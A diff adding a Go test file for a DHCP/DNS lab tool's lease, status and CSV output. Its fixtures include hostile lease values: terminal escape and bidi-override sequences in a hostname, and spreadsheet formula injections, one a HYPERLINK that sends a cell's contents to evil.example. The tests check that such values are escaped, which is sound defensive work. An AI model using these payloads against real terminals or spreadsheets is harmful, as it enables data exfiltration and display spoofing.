@@ -1,0 +1,168 @@
+package main
+
+import (
+	"bytes"
+	"encoding/json"
+	"net/netip"
+	"testing"
+	"unicode"
+
+	"github.com/spf13/cobra"
+
+	"labnet/internal/control"
+)
+
+func exampleLeases() []control.Lease {
+	lease := func(network, addr, mac, name, state string) control.Lease {
+		return control.Lease{
+			Network: network, Address: netip.MustParseAddr(addr), MAC: mac, ClientID: "01:" + mac, Name: name, State: state,
+			Start: at("2030-01-02T02:00:00Z"), Expires: at("2030-01-02T14:00:00Z"), LastSeen: at("2030-01-02T03:00:00+01:00"), Hostname: name,
+		}
+	}
+	builder := lease("lab", "10.0.0.57", "52:54:00:00:00:01", "builder", "bound")
+	builder.Reserved, builder.VendorClass = true, "dhcpcd-9.4.1:Linux-6.12:x86_64"
+	forever := control.Lease{
+		Network: "lab", Address: netip.MustParseAddr("10.0.0.60"), MAC: "52:54:00:00:00:02", ClientID: "52:54:00:00:00:02", State: "bound",
+	}
+	hostile := lease("lab", "10.0.0.66", "52:54:00:ab:cd:ef", "x-31mowned", "bound")
+	hostile.Hostname = "\x1b[31mowned\x07\u009b2J\r\nbound\u202e\ufffd\x00\x7f\U000e0001"
+	hostile.VendorClass = `=HYPERLINK("http://evil.example/?"&A1;"x")`
+	semicolon := lease("lab", "10.0.0.67", "52:54:00:ab:cd:f0", "", "bound")
+	semicolon.Hostname, semicolon.VendorClass = "a;=1+1", " @SUM(A1)"
+	return []control.Lease{
+		builder, forever, hostile, semicolon,
+		lease("lab", "10.0.0.70", "52:54:00:00:00:10", "twin", "bound"),
+		lease("lab", "10.0.0.80", "52:54:00:00:00:20", "phoenix", "released"),
+		lease("lab", "10.0.0.81", "52:54:00:00:00:21", "phoenix", "bound"),
+		lease("lab", "10.0.0.90", "52:54:00:00:00:30", "gone", "expired"),
+		lease("dmz", "10.1.0.70", "52:54:00:00:00:11", "twin", "bound"),
+	}
+}
+
+func exampleStatus() control.Status {
+	return control.Status{
+		State: control.Degraded, PID: 1 << 30, Version: "1.2.3", Started: at("2030-01-02T02:00:00Z"), Config: "/etc/labnet/labnet.hcl",
+		Networks: []control.Network{
+			{
+				Name: "lab", Mode: "routed", Bridge: "br0", Address: netip.MustParsePrefix("10.0.0.1/24"), Uplink: "auto", Masquerade: true,
+				Domain: "lab.internal", Bound: 6, Addresses: 253, DHCP: control.Counters{"ack": 7, "nak": 1},
+			},
+			{Name: "dmz", Mode: "routed", Bridge: "br1", Address: netip.MustParsePrefix("10.1.0.1/24"), Uplink: "eth1", Domain: "dmz.internal"},
+		},
+		Upstreams: []control.Upstream{
+			{Group: "lan", Server: "udp://192.0.2.1:53", Healthy: true, RTT: "1.5ms"},
+			{Group: "far", Server: "tls://192.0.2.9:853"},
+		},
+		DNS:      control.Counters{"cached": 3},
+		Problems: exampleProblems(),
+	}
+}
+
+func exampleProblems() []control.Problem {
+	return []control.Problem{
+		{Network: "dmz", Summary: "the uplink eth1 is missing", Remedy: "name another one, or plug it in"},
+		{Fatal: true, Summary: "port 53 is taken"},
+	}
+}
+
+func exampleChanges() []control.Change {
+	return []control.Change{{Group: "links", Text: "- link br0"}, {Group: "links", Text: "- link br1"}, {Group: "sysctls", Text: "~ net.ipv4.ip_forward: 1 → 0"}}
+}
+
+// harmless tells whether text does nothing to a terminal but print.
+func harmless(t *testing.T, text string) {
+	t.Helper()
+	for i, r := range text {
+		if r != '\n' && !unicode.IsPrint(r) {
+			t.Errorf("%U at %d in:\n%q", r, i, text)
+		}
+	}
+}
+
+func TestOutput(t *testing.T) {
+	now := at("2030-01-02T12:00:00Z")
+	for _, test := range []struct {
+		name  string
+		write func(*bytes.Buffer) error
+	}{
+		{"leases-table", func(w *bytes.Buffer) error { return writeLeasesTable(w, exampleLeases(), now) }},
+		{"leases-table-empty", func(w *bytes.Buffer) error { return writeLeasesTable(w, nil, now) }},
+		{"leases-csv", func(w *bytes.Buffer) error { return writeLeasesCSV(w, exampleLeases()) }},
+		{"lease", func(w *bytes.Buffer) error { return writeLease(w, exampleLeases()[0], now) }},
+		{"lease-forever", func(w *bytes.Buffer) error { return writeLease(w, exampleLeases()[1], now) }},
+		{"lease-hostile", func(w *bytes.Buffer) error { return writeLease(w, exampleLeases()[2], now) }},
+		{"lease-ended", func(w *bytes.Buffer) error { return writeLease(w, exampleLeases()[7], at("2030-01-03T00:00:00Z")) }},
+		{"status", func(w *bytes.Buffer) error { return writeStatus(w, exampleStatus(), now) }},
+		{"status-json", func(w *bytes.Buffer) error { return writeJSON(w, exampleStatus()) }},
+		{"changes", func(w *bytes.Buffer) error { return writeChanges(w, exampleChanges()) }},
+	} {
+		t.Run(test.name, func(t *testing.T) {
+			var out bytes.Buffer
+			if err := test.write(&out); err != nil {
+				t.Fatal(err)
+			}
+			harmless(t, out.String())
+			golden(t, test.name, out.String())
+		})
+	}
+}
+
+func TestNoChangesPrintNothing(t *testing.T) {
+	var out bytes.Buffer
+	if err := writeChanges(&out, nil); err != nil || out.Len() > 0 {
+		t.Errorf("%q, %v", out.String(), err)
+	}
+}
+
+func TestProblemsAreNotOutput(t *testing.T) {
+	var out, errOut bytes.Buffer
+	cmd := new(cobra.Command)
+	cmd.SetOut(&out)
+	cmd.SetErr(&errOut)
+	writeProblems(cmd, exampleProblems())
+	if out.Len() > 0 {
+		t.Errorf("on standard output: %q", out.String())
+	}
+	golden(t, "problems", errOut.String())
+}
+
+func TestPrintable(t *testing.T) {
+	for _, test := range []struct{ name, in, want string }{
+		{"empty", "", ""},
+		{"plain", "MSFT 5.0", "MSFT 5.0"},
+		{"hyphen within", "vm-1", "vm-1"},
+		{"equals", "=1+1", `"=1+1"`},
+		{"plus", "+1", `"+1"`},
+		{"minus", "-1", `"-1"`},
+		{"at", "@SUM(A1)", `"@SUM(A1)"`},
+		{"formula behind blanks", "  =1", `"  =1"`},
+		{"formula behind a tab", "\t=1", `"\t=1"`},
+		{"semicolon", "a;=1", `"a\x3b=1"`},
+		{"quote", `a"b`, `"a\"b"`},
+		{"escape", "\x1b[2J", `"\x1b[2J"`},
+		{"C1", "\u009b2J", `"\u009b2J"`},
+		{"byte that isn't UTF-8", "\x9b2J", `"\x9b2J"`},
+		{"line", "a\nb", `"a\nb"`},
+		{"from right to left", "a\u202eb", `"a\u202eb"`},
+	} {
+		t.Run(test.name, func(t *testing.T) {
+			if got := printable(test.in); got != test.want {
+				t.Errorf("%s, want %s", got, test.want)
+			}
+		})
+	}
+}
+
+// What is escaped for the terminal is still the same JSON.
+func TestJSONKeepsItsMeaning(t *testing.T) {
+	const in = "\x1b[31m\u009b\u202e\x7f\U000e0001<é世&\n\"\\"
+	var out bytes.Buffer
+	if err := writeJSON(&out, in); err != nil {
+		t.Fatal(err)
+	}
+	harmless(t, out.String())
+	var back string
+	if err := json.Unmarshal(out.Bytes(), &back); err != nil || back != in {
+		t.Errorf("%s: %q, %v", out.String(), back, err)
+	}
+}
